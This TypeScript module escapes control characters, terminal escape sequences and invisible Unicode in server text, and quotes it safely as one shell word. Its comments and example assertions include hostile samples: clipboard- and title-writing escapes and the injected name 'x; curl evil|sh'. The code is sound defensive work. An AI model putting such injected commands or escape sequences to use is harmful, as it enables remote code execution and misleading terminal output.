/**
 * Text from a server, made safe to print. A server names its actions,
 * writes its schemas and its errors' messages, and `isock` prints them: a
 * hostile one could put terminal controls in them (`ESC ]0` retitles the
 * window, `ESC ]52` writes the clipboard, `ESC [2J` clears the screen, a CR
 * overwrites the line), or characters that make the text read other than
 * it is (a bidi override reverses what follows, a zero-width space hides
 * in a name). Every printer of `isock` passes what it prints through
 * {@linkcode printable} or {@linkcode printableJson}, so each of these
 * reaches the terminal as a visible escape.
 *
 * @module
 */

/**
 * What is escaped: controls (C0 with CR, LF, ESC and BEL, DEL, C1), format
 * characters (bidi overrides and isolates, zero-width characters, the
 * BOM), lone surrogates, and the line and paragraph separators.
 */
const HIDDEN = String.raw`\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}`;

/**
 * {@linkcode HIDDEN} but LF: in `JSON.stringify`'s text a raw LF is its
 * own indentation (it escapes every C0 control inside a string).
 */
const JSON_HIDDEN = new RegExp(String.raw`(?!\n)[${HIDDEN}]`, "gu");

/** {@linkcode HIDDEN}, and the backslash that starts an escape. */
const ESCAPED = new RegExp(String.raw`[\\${HIDDEN}]`, "gu");

const NAMED: Readonly<Record<string, string>> = {
  "\\": "\\\\",
  "\n": "\\n",
  "\r": "\\r",
  "\t": "\\t",
};

/**
 * The text with every control and invisible character escaped, in one
 * style for names and values alike: `\n`, `\r`, `\t`, `\x1b` for the
 * other ASCII controls and DEL, `\u202e` for the rest (C1 controls, bidi
 * overrides and isolates, zero-width characters, the BOM, U+2028 and
 * U+2029, lone surrogates), `\u{e0001}` above U+FFFF; a backslash is
 * written `\\`, so that a name holding the four characters `\x1b` never
 * reads as an escaped ESC. Other characters, Unicode included, stay.
 *
 * @example
 * ```ts
 * import { printable } from "./printable.ts";
 * import assert from "node:assert/strict";
 *
 * assert.equal(printable("évil\x1b]0;title\x07\r\u009b"), "évil\\x1b]0;title\\x07\\r\\u009b");
 * assert.equal(printable("abc\u202edcba\u200b"), "abc\\u202edcba\\u200b");
 * assert.equal(printable("\\x1b"), "\\\\x1b");
 * assert.equal(printable("\ud800 \u{e0001}"), "\\ud800 \\u{e0001}");
 * ```
 *
 * @param text Text from a server.
 * @returns It, safe to print.
 */
export function printable(text: string): string {
  return text.replace(ESCAPED, escape);
}

/** What a POSIX shell takes as one word, as it is: no quoting needed. */
const SHELL_WORD = /^[A-Za-z0-9._:/@-]+$/;

/**
 * The text, {@linkcode printable}, as one word to paste into a POSIX
 * shell: as it is when every character is one of `A-Za-z0-9._:/@-`, in
 * single quotes otherwise (a `'` written `'\''`), so that a server's
 * action named `x; curl evil|sh` is shown as a name, never as commands.
 *
 * @example
 * ```ts
 * import { shellWord } from "./printable.ts";
 * import assert from "node:assert/strict";
 *
 * assert.equal(shellWord("users.get"), "users.get");
 * assert.equal(shellWord("x; curl evil|sh"), "'x; curl evil|sh'");
 * assert.equal(shellWord("it's"), "'it'\\''s'");
 * assert.equal(shellWord(""), "''");
 * ```
 *
 * @param text Text from a server.
 * @returns It, safe to print and to paste as one shell word.
 */
export function shellWord(text: string): string {
  const shown = printable(text);
  return SHELL_WORD.test(shown) ? shown : `'${shown.replaceAll("'", "'\\''")}'`;
}

/**
 * A value as JSON that is safe to print: `JSON.stringify` escapes C0
 * controls and lone surrogates but leaves the rest of what
 * {@linkcode printable} escapes raw (DEL, C1, bidi overrides, zero-width
 * characters, U+2028…), so those are escaped too (`\u007f`, `\u202e`,
 * above U+FFFF as its two surrogates: the same string to a JSON reader).
 * A value that JSON cannot hold (a `bigint`, a `Map`, bytes) goes through
 * isock's JSON mapping (`valueToJson`) first.
 *
 * @example
 * ```ts
 * import { printableJson } from "./printable.ts";
 * import assert from "node:assert/strict";
 *
 * const text = printableJson({ name: "a\x1b\u009b\x7f\u202e\u{e0001}", count: 10 });
 * assert.equal(
 *   text,
 *   '{"name":"a\\u001b\\u009b\\u007f\\u202e\\udb40\\udc01","count":10}',
 * );
 * assert.deepEqual(JSON.parse(text).name, "a\x1b\u009b\x7f\u202e\u{e0001}");
 * ```
 *
 * @param value The value (from a server, or holding what a server sent).
 * @param indent Spaces to indent by; none for one line.
 * @returns The JSON text.
 */
export function printableJson(value: unknown, indent?: number): string {
  const text = JSON.stringify(value, undefined, indent) ?? "null";
  return text.replace(JSON_HIDDEN, jsonEscape);
}

function escape(character: string): string {
  const code = character.codePointAt(0)!;
  return NAMED[character] ??
    (code < 0x80
      ? `\\x${hex(code, 2)}`
      : code > 0xffff
      ? `\\u{${code.toString(16)}}`
      : `\\u${hex(code, 4)}`);
}

/** JSON's escape: `\uXXXX` for each UTF-16 unit. */
function jsonEscape(character: string): string {
  let escaped = "";
  for (let i = 0; i < character.length; i++) {
    escaped += `\\u${hex(character.charCodeAt(i), 4)}`;
  }
  return escaped;
}

function hex(code: number, digits: number): string {
  return code.toString(16).padStart(digits, "0");
}
